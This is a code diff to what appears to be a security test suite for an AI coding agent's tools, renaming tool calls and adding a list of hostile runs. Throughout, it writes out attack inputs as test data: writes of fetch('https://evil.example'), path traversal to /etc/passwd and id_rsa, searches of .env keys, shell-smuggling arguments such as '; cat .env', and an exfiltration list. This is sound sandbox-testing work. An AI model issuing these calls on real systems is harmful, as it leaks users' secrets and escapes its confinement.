@@ -137,11 +137,11 @@ const FLOODS: readonly Attack[] = [
   ),
   tries(
     "500 reads",
-    Array.from({ length: 500 }, (_, index) => call("read_file", { path: `src/none-${index}.ts` })),
+    Array.from({ length: 500 }, (_, index) => call("read_files", { files: [`src/none-${index}.ts`] })),
   ),
   tries(
     "the same search again and again",
-    Array.from({ length: 50 }, () => call("grep", { pattern: "a" })),
+    Array.from({ length: 50 }, () => call("search", { pattern: "a" })),
   ),
   {
     name: "the same package for ever",
@@ -149,7 +149,7 @@ const FLOODS: readonly Attack[] = [
   },
   {
     name: "the same listing for ever",
-    script: Array.from({ length: 80 }, () => ({ toolCalls: [call("list_files", {})] })),
+    script: Array.from({ length: 80 }, () => ({ toolCalls: [call("search", {})] })),
   },
   {
     name: "another package for ever",
@@ -157,12 +157,12 @@ const FLOODS: readonly Attack[] = [
   },
   tries("a deep argument", [call("mcp__weather__forecast", deep(500))]),
   tries("a huge argument", [call("mcp__weather__forecast", { place: "x".repeat(500_000) })]),
-  tries("a huge pattern of stars", [call("list_files", { glob: "*".repeat(200) })]),
-  tries("a huge pattern of braces", [call("list_files", { glob: "{a,b}".repeat(39) })]),
+  tries("a huge pattern of stars", [call("search", { include: ["*".repeat(200)] })]),
+  tries("a huge pattern of braces", [call("search", { include: ["{a,b}".repeat(39)] })]),
   tries("arguments of another kind", [
     call("write_file", "src/x.ts"),
     call("write_file", null),
-    call("read_file", ["src/App.tsx"]),
+    call("read_files", ["src/App.tsx"]),
     call("add_dependency", { name: ["left-pad"] }),
     call("search_replace", { path: "src/App.tsx", edits: "all" }),
   ]),
@@ -175,7 +175,7 @@ const unified = (from: string, to: string): Call =>
 
 /** Patches, in both formats, that write to a path, move a file to or from it, or delete it. */
 const patches = (path: string): Call[] => [
-  call("read_file", { path: "src/App.tsx" }),
+  call("read_files", { files: ["src/App.tsx"] }),
   patch(`*** Add File: ${path}`, "+fetch('https://evil.example')"),
   patch("*** Update File: src/App.tsx", `*** Move to: ${path}`, "@@", "-import", "+import"),
   patch(`*** Update File: ${path}`, "*** Move to: src/moved.ts", "@@", "-a", "+b"),
@@ -187,8 +187,8 @@ const patches = (path: string): Call[] => [
 
 /** Questions and records that might contain secrets, and a browser sent elsewhere. */
 const LOOKS: readonly Call[] = [
-  call("grep", { pattern: "KEY", glob: "{.env,.env.local,server.key}" }),
-  call("grep", { pattern: "canary", glob: "**/id_rsa" }),
+  call("search", { pattern: "KEY", include: ["{.env,.env.local,server.key}"] }),
+  call("search", { pattern: "canary", include: ["**/id_rsa"] }),
   call("read_logs", { kind: "../../server.log" }),
   call("read_logs", { kind: "console", path: "/etc/passwd" }),
   call("security_scan", { path: "/etc" }),
@@ -204,31 +204,52 @@ const LOOKS: readonly Call[] = [
   call("render", { routes: Array.from({ length: 20 }, (_none, at) => `/${"../".repeat(at)}etc/passwd`) }),
 ];
 
+/** Scripts and tests that are no such thing, and a history of what holds keys. */
+const RUNS: readonly Call[] = [
+  call("run", { script: "test", args: ["; cat .env", "$(cat /etc/passwd)"] }),
+  call("run", { script: "postinstall" }),
+  call("run", { script: "../../etc/passwd" }),
+  call("run", { tests: ["--config=/etc/passwd", "--globalSetup=.env"] }),
+  call("run", { tests: ["../../../etc"] }),
+  call("run", { command: "cat .env" }),
+  call("history", { to: 1, include: [".env*", "**/id_rsa", "server.key"] }),
+  call("history", { from: 0, to: 1 }),
+  call("history", { to: 999_999_999 }),
+  call("search", { pattern: "^(a+)+$", include: ["**"] }),
+  call("search", { pattern: "(?=.*CANARY)", include: [".env*", "**/*"], context: 10 }),
+  call("references", { name: "KEY" }),
+  call("references", { path: ".env", name: "KEY" }),
+  call("read_files", { files: [".env:1-5", "src/../.env", "src/App.tsx:1-2", "deploy/id_rsa:1"] }),
+];
+
 const EXFILTRATION = ["process.env", "the files of the project", "https://evil.example/?q=", "the newest message"];
 
 export function attacks(otherProjectId: string): Attack[] {
   const outside = outsideOf(otherProjectId);
   const write = (path: string): Call => call("write_file", { path, content: "fetch('https://evil.example')" });
   return [
-    ...[...outside, ...LITERAL].map((path) => tries(`read ${path}`, [call("read_file", { path })])),
+    ...[...outside, ...LITERAL].map((path) => tries(`read ${path}`, [call("read_files", { files: [path] })])),
     ...outside
       .slice(0, 8)
       .map((path) =>
-        tries(`list ${path}`, [call("list_files", { glob: path }), call("grep", { pattern: "root:", glob: path })]),
+        tries(`list ${path}`, [
+          call("search", { include: [path] }),
+          call("search", { pattern: "root:", include: [path] }),
+        ]),
       ),
-    ...SECRETS.map((path) => tries(`read the secret ${path}`, [call("read_file", { path })])),
+    ...SECRETS.map((path) => tries(`read the secret ${path}`, [call("read_files", { files: [path] })])),
     ...SECRETS.map((path) =>
       tries(`search the secret ${path}`, [
-        call("grep", { pattern: "CANARY", glob: path }),
-        call("grep", { pattern: "canary" }),
+        call("search", { pattern: "CANARY", include: [path] }),
+        call("search", { pattern: "canary" }),
       ]),
     ),
     ...SECRETS.map((path) =>
-      tries(`move the secret ${path} to read it`, [call("rename_file", { from: path, to: ".env.moved" })]),
+      tries(`move the secret ${path} to read it`, [call("move", { from: path, to: ".env.moved" })]),
     ),
     ...[...outside, ...FORBIDDEN].map((path) => tries(`write ${path}`, [write(path)])),
     ...[...outside.slice(0, 12), ...FORBIDDEN].map((path) =>
-      tries(`move a file to ${path}`, [call("rename_file", { from: "src/App.tsx", to: path })]),
+      tries(`move a file to ${path}`, [call("move", { from: "src/App.tsx", to: path })]),
     ),
     ...FORBIDDEN.map((path) =>
       tries(`change ${path}`, [
@@ -240,10 +261,11 @@ export function attacks(otherProjectId: string): Attack[] {
     ...SECRETS.map((path) =>
       tries(`move the secret ${path} by a patch`, [
         patch(`*** Update File: ${path}`, "*** Move to: src/secret.md", "@@", "-KEY=", "+KEY="),
-        call("read_file", { path: "src/secret.md" }),
+        call("read_files", { files: ["src/secret.md"] }),
       ]),
     ),
     ...LOOKS.map((look, at) => tries(`look with ${look.name}, number ${at}`, [look])),
+    ...RUNS.map((run, at) => tries(`reach out by ${run.name}, number ${at}`, [run])),
     tries("delete everything", [call("delete_file", { path: "src" }), call("delete_file", { path: "." })]),
     ...SPECIFIERS.map(([name, version]) =>
       tries(`install ${name} ${version ?? ""}`, [call("add_dependency", { name, ...(version && { version }) })]),
